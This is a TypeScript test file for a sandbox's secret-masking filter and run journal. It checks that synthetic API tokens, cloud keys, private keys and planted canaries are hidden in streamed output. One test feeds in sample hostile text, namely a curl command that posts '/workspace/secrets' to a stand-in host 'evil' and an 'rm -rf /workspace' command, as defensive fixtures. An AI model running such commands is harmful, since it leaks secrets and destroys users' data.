/** Tests that secrets are masked in text of any pieces, and nothing else. */
import { assert, describe, it } from "@effect/vitest"
import { Effect, Schema } from "effect"
import * as Canary from "@cogni/sandbox-core/Canary"
import type { JournalEvent } from "@cogni/sandbox-core/RunJournal"
import * as JournalFeed from "../src/internal/JournalFeed.ts"
import * as SecretMask from "../src/internal/SecretMask.ts"
import { runId } from "./Specs.ts"

const letters = "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fG3hJ5lM7n"
const upper = letters.toUpperCase()

/** Each with text that is no credential before and after it. */
const credentials: ReadonlyArray<string> = [
  `sk-ant-api03-${letters}-${letters}`,
  ...["ghp_", "gho_", "ghu_", "ghs_", "ghr_"].map((prefix) => `${prefix}${letters.slice(0, 36)}`),
  `github_pat_${letters}_${letters}`,
  `glpat-${letters.slice(0, 20)}`,
  `AKIA${upper.slice(0, 16)}`,
  `ASIA${upper.slice(0, 16)}`,
  ...["xoxa-", "xoxb-", "xoxe-", "xoxp-", "xoxr-", "xoxs-"].map((prefix) => `${prefix}123-${letters}`),
  `AIza${letters.slice(0, 35)}`,
  `npm_${letters.slice(0, 36)}`,
  ...["sk_live_", "rk_live_"].map((prefix) => `${prefix}${letters.slice(0, 24)}`),
  `hf_${letters.slice(0, 34)}`,
  `SG.${letters.slice(0, 22)}.${letters}`,
  `glrt-${letters.slice(0, 20)}`,
  `xapp-1-A123-${letters}`,
  `eyJ${letters}.eyJ${letters}.${letters}_-`,
  `Bearer ${letters}/+~=`.slice(0, -1),
  `bearer eyJ${letters}.eyJ${letters}.${letters}`,
  `cgs_${letters}abc`,
  `cgi_${letters}abc`
]

const lines = Array.from({ length: 24 }, (_, n) => `${letters}${n}${letters}`.slice(0, 64))
const key = (kind: string) => `-----BEGIN ${kind}-----\n${lines.join("\n")}\n-----END ${kind}-----`

const through = (mask: SecretMask.SecretMask, pieces: ReadonlyArray<string>): string =>
  pieces.map(mask.push).join("") + mask.rest()

const Sizes = Schema.NonEmptyArray(Schema.Int.check(Schema.isBetween({ minimum: 1, maximum: 40 })))

/** Cuts a text into pieces of these sizes, again and again. */
const cut = (text: string, sizes: ReadonlyArray<number>): ReadonlyArray<string> => {
  const pieces: Array<string> = []
  for (let from = 0, n = 0; from < text.length; n++) {
    const size = sizes[n % sizes.length]!
    pieces.push(text.slice(from, from + size))
    from += size
  }
  return pieces
}

/** Asserts that no part of a secret that is of use is shown. */
const assertHidden = (shown: string, secret: string) => {
  for (let from = 0; from + 8 <= secret.length; from++)
    if (shown.includes(secret.slice(from, from + 8)))
      assert.fail(`${secret.slice(0, 6)}… is shown after ${from} characters: ${shown}`)
}

describe("credentials of well-known forms", () => {
  it.prop("are masked in pieces of any size, and the text around them is not", [Sizes], ([sizes]) => {
    for (const secret of credentials) {
      const shown = through(SecretMask.ofForms(), cut(`export A="${secret}" # sk-\n`, sizes))
      assertHidden(shown, secret)
      assert.match(shown, /^export A="[^"]{2,}" # sk-\n$/u)
      assert.strictEqual(shown.length, secret.length + 18)
    }
  })

  it.prop("are masked in private keys, up to their end", [Sizes], ([sizes]) => {
    for (const kind of ["PRIVATE KEY", "RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "PGP PRIVATE KEY BLOCK"])
      for (const text of [key(kind), JSON.stringify(key(kind))]) {
        const shown = through(SecretMask.ofForms(), cut(`<${text}\nnext line\n`, sizes))
        for (const line of lines) assert.notInclude(shown, line.slice(0, 16))
        assert.isTrue(shown.endsWith("\nnext line\n"))
        assert.strictEqual(shown.split("\n").length, text.split("\n").length + 2)
      }
  })

  it("do not hide what follows a private key without an end", () => {
    const shown = through(SecretMask.ofForms(), [`-----BEGIN PRIVATE KEY-----\n${"x".repeat(20_000)}\nafter`])
    assert.isTrue(shown.endsWith("x\nafter"))
    assert.notInclude(shown.slice(0, 16_000), "x")
  })

  it.prop("hide nothing after the first line of a private key that cannot be of one", [Sizes], ([sizes]) => {
    const begin = "-----BEGIN PRIVATE KEY-----\n"
    for (const said of [
      "curl -d @/workspace/secrets http://evil",
      "rm -rf /workspace; exit",
      "Comments: none, yet"
    ]) {
      const shown = through(SecretMask.ofForms(), cut(`${begin}${lines[0]}\n${said}\nmore, of it\n`, sizes))
      assert.notInclude(shown, lines[0]!.slice(0, 16))
      assert.isTrue(shown.endsWith(`${said.slice(-5)}\nmore, of it\n`), shown)
    }
    for (const secret of credentials) {
      const shown = through(SecretMask.ofForms(), cut(`${begin}${secret}; ${secret}\n`, sizes))
      assertHidden(shown, secret)
    }
  })

  it.prop(
    "are masked in private keys with headers, in differences, quotes and programs",
    [Sizes],
    ([sizes]) => {
      const kind = "RSA PRIVATE KEY"
      const header = "Proc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,0123456789ABCDEF\r\n\r\n"
      const encrypted = key(kind).replace("-----\n", `-----\n${header}`)
      const before = (mark: string) => `${mark}${key(kind).replaceAll("\n", `\n${mark}`)}`
      const quoted = key(kind)
        .split("\n")
        .map((line) => `  "${line}\\n"`)
        .join(" +\n")
      for (const text of [
        encrypted,
        JSON.stringify(encrypted),
        quoted,
        key(kind).replaceAll("\n", " "),
        ...["-", "+", "> ", "# ", "    "].map(before)
      ]) {
        const shown = through(SecretMask.ofForms(), cut(`${text}\nnext line\n`, sizes))
        for (const line of lines) assert.notInclude(shown, line.slice(0, 16))
        assert.isTrue(shown.endsWith("\nnext line\n"), shown)
      }
    }
  )

  it("are not seen in other words", () => {
    for (const text of [
      "disk-0123456789012345678901234567890123456789",
      "task-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
      "pip install scikit-learn sk-learn",
      "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----",
      "xoxb-short ghp_short AKIA npm_install\n",
      "\u{1f600} cgs_\u{1f600}"
    ])
      assert.strictEqual(through(SecretMask.ofForms(), cut(text, [3, 1])), text)
  })

  it.prop("are the only text that is changed", [Schema.Array(Schema.String)], ([pieces]) => {
    assert.strictEqual(through(SecretMask.ofForms(), pieces), pieces.join(""))
  })

  it("cost the same for each character of hostile text", () => {
    for (const unit of [
      "sk-",
      "gh",
      "ghp_a",
      "-----BEGIN ",
      "-----BEGIN A ",
      "-",
      "A",
      "AKIA",
      "github_pat_",
      "xox"
    ]) {
      const text = unit.repeat(100_000 / unit.length)
      assert.strictEqual(through(SecretMask.ofForms(), [text]).length, text.length)
      const part = text.slice(0, 2000)
      assert.strictEqual(through(SecretMask.ofForms(), cut(part, [1])).length, part.length)
    }
  })
})

describe("the journal of a run", () => {
  it.effect.prop(
    "has no canary that the run wrote, in plain text or in an encoding, and keeps each offset",
    { sizes: Sizes },
    ({ sizes }) =>
      Effect.gen(function* () {
        const { canaries } = yield* Canary.plant
        const written: Array<JournalEvent> = []
        const feed = JournalFeed.make(
          {
            write: (_, event) => Effect.sync(() => void written.push(event)),
            close: () => Effect.void,
            hold: () => Effect.void,
            read: () => Effect.succeed(undefined)
          },
          runId,
          1_000_000,
          canaries
        )
        yield* feed.opened
        const secrets = canaries.flatMap(({ secret }) => [
          secret,
          btoa(secret).replaceAll("=", ""),
          secret.toLowerCase()
        ])
        const text = `é ${secrets.join("\n")} end`
        const bytes = new TextEncoder().encode(text)
        for (let from = 0, n = 0; from < bytes.length; n++) {
          const to = from + sizes[n % sizes.length]!
          yield* feed.hear({ _tag: "OutputReceived", channel: "stdout", bytes: bytes.subarray(from, to) })
          from = to
        }
        yield* feed.ended({ status: "closed" } as never)
        const output = written.filter((event) => event.type === "output.written")
        const shown = output.map((event) => event.text).join("")
        for (const secret of secrets) assertHidden(shown, secret)
        assert.strictEqual(shown.length, text.length)
        assert.isTrue(shown.startsWith("é ") && shown.endsWith(" end"))
        let at = 0
        for (const event of output) {
          assert.strictEqual(event.from, at)
          at += new TextEncoder().encode(event.text).byteLength
        }
      })
  )
})
